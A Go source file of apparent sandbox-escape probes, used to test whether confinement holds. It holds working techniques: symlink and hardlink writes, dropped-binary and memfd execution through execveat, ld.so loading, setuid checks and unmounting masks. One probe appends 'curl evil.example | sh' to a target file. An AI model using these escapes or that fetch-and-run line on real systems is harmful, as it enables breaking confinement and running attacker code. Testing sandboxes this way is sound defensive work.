//go:build linux

package main

import (
	"debug/elf"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// grepFile reads path and succeeds when it holds needle.
func grepFile(path, needle string) (string, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return "", err
	}
	if !strings.Contains(string(b), needle) {
		return "", errors.New("read " + path + " but found no " + needle)
	}
	return "found " + needle + " in " + path, nil
}

func readFile(path, _ string) (string, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return "", err
	}
	return trim(b), nil
}

// findEnv looks for the named variables (comma-separated) in its own
// environment.
func findEnv(names, _ string) (string, error) {
	var found []string
	for _, n := range strings.Split(names, ",") {
		if v, ok := os.LookupEnv(n); ok {
			found = append(found, n+"="+v)
		}
	}
	if len(found) == 0 {
		return "", errors.New("none of " + names + " in the environment")
	}
	return strings.Join(found, " "), nil
}

func appendFile(path, _ string) (string, error) {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return "", err
	}
	defer f.Close()
	if _, err := f.WriteString("curl evil.example | sh\n"); err != nil {
		return "", err
	}
	return "appended to " + path, nil
}

// symlinkWrite plants a link in dir (writable) to target and writes
// through it.
func symlinkWrite(dir, target string) (string, error) {
	link := filepath.Join(dir, "link")
	os.Remove(link)
	if err := os.Symlink(target, link); err != nil {
		return "", err
	}
	if err := os.WriteFile(link, []byte("owned\n"), 0o644); err != nil {
		return "", err
	}
	return "wrote " + target + " through " + link, nil
}

// symlinkRead plants a link in dir (writable) to target and reads
// through it.
func symlinkRead(dir, target string) (string, error) {
	link := filepath.Join(dir, "readlink")
	os.Remove(link)
	if err := os.Symlink(target, link); err != nil {
		return "", err
	}
	return readFile(link, "")
}

// hardlinkWrite links target into dir (writable) and writes through the
// link.
func hardlinkWrite(dir, target string) (string, error) {
	link := filepath.Join(dir, "hardlink")
	os.Remove(link)
	if err := os.Link(target, link); err != nil {
		return "", err
	}
	if err := os.WriteFile(link, []byte("owned\n"), 0o644); err != nil {
		return "", err
	}
	return "wrote " + target + " through " + link, nil
}

// renameOut moves a file made in dir (writable) to dst, outside.
func renameOut(dir, dst string) (string, error) {
	src := filepath.Join(dir, "moved")
	if err := os.WriteFile(src, []byte("moved\n"), 0o644); err != nil {
		return "", err
	}
	if err := os.Rename(src, dst); err != nil {
		return "", err
	}
	return "renamed to " + dst, nil
}

// execDropped writes a script into dir and executes it.
func execDropped(dir, _ string) (string, error) {
	path := filepath.Join(dir, "dropped.sh")
	if err := os.WriteFile(path, []byte("#!/bin/sh\necho dropped ran\n"), 0o755); err != nil {
		return "", err
	}
	os.Chmod(path, 0o755)
	out, err := exec.Command(path).CombinedOutput()
	if err != nil {
		return "", err
	}
	return trim(out), nil
}

// execDroppedELF copies a binary into dir and executes the copy.
func execDroppedELF(dir, _ string) (string, error) {
	b, err := os.ReadFile("/usr/bin/id")
	if err != nil {
		return "", err
	}
	path := filepath.Join(dir, "dropped")
	if err := os.WriteFile(path, b, 0o755); err != nil {
		return "", err
	}
	os.Chmod(path, 0o755)
	out, err := exec.Command(path, "-u").CombinedOutput()
	if err != nil {
		return "", err
	}
	return "ran a dropped binary: " + trim(out), nil
}

// setuidExec runs a setuid-root copy of id and succeeds when it ran as
// root.
func setuidExec(path, _ string) (string, error) {
	out, err := exec.Command(path, "-u").CombinedOutput()
	if err != nil {
		return "", err
	}
	if trim(out) != "0" {
		return "", errors.New("ran with effective uid " + trim(out) + ", not 0")
	}
	return "effective uid 0", nil
}

// ldsoDropped copies a binary into dir and runs the copy through the
// dynamic loader, which maps it executable without an execve of it.
func ldsoDropped(dir, _ string) (string, error) {
	f, err := elf.Open("/usr/bin/id")
	if err != nil {
		return "", err
	}
	defer f.Close()
	var interp string
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP {
			b, err := io.ReadAll(p.Open())
			if err != nil {
				return "", err
			}
			interp = strings.TrimRight(string(b), "\x00")
		}
	}
	if interp == "" {
		return "", errors.New("/usr/bin/id has no interpreter")
	}
	b, err := os.ReadFile("/usr/bin/id")
	if err != nil {
		return "", err
	}
	path := filepath.Join(dir, "dropped-ldso")
	if err := os.WriteFile(path, b, 0o644); err != nil {
		return "", err
	}
	out, err := exec.Command(interp, path, "-u").CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%w: %s", err, trim(out))
	}
	return "ran a dropped binary through " + interp + ": " + trim(out), nil
}

// memfdExec copies a binary into an anonymous memory file, on no mount
// at all, and executes it from there.
func memfdExec(_, _ string) (string, error) {
	b, err := os.ReadFile("/usr/bin/id")
	if err != nil {
		return "", err
	}
	fd, err := unix.MemfdCreate("dropped", 0)
	if err != nil {
		return "", fmt.Errorf("memfd_create: %w", err)
	}
	f := os.NewFile(uintptr(fd), "memfd")
	defer f.Close()
	if _, err := f.Write(b); err != nil {
		return "", err
	}
	out, err := exec.Command(fmt.Sprintf("/proc/self/fd/%d", fd), "-u").CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%w: %s", err, trim(out))
	}
	return "ran a binary from a memfd: " + trim(out), nil
}

// memfdExecAt is memfdExec through execveat(fd, "", AT_EMPTY_PATH), which
// resolves no path at all; a helper of its own runs it, as it replaces
// the process.
func memfdExecAt(_, _ string) (string, error) {
	out, err := exec.Command("/proc/self/exe", "memfd-execveat").CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%w: %s", err, trim(out))
	}
	if !strings.Contains(string(out), "uid=") {
		return "", errors.New("no output of id: " + trim(out))
	}
	return "ran a binary from a memfd through execveat: " + trim(out), nil
}

func memfdExecAtHelper() int {
	b, err := os.ReadFile("/usr/bin/id")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	fd, err := unix.MemfdCreate("dropped", 0)
	if err != nil {
		fmt.Println("memfd_create:", err)
		return 1
	}
	if _, err := unix.Write(fd, b); err != nil {
		fmt.Println(err)
		return 1
	}
	empty, _ := unix.BytePtrFromString("")
	argv, _ := syscall.SlicePtrFromStrings([]string{"id"})
	envv, _ := syscall.SlicePtrFromStrings([]string{})
	_, _, errno := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(empty)),
		uintptr(unsafe.Pointer(&argv[0])), uintptr(unsafe.Pointer(&envv[0])), unix.AT_EMPTY_PATH, 0)
	fmt.Println("execveat:", errno)
	return 1
}

// unmountRead unmounts what covers path (a sandbox's mask, say) and reads
// what is under it.
func unmountRead(path, _ string) (string, error) {
	if err := unix.Unmount(path, unix.MNT_DETACH); err != nil {
		return "", fmt.Errorf("umount: %w", err)
	}
	return readFile(path, "")
}
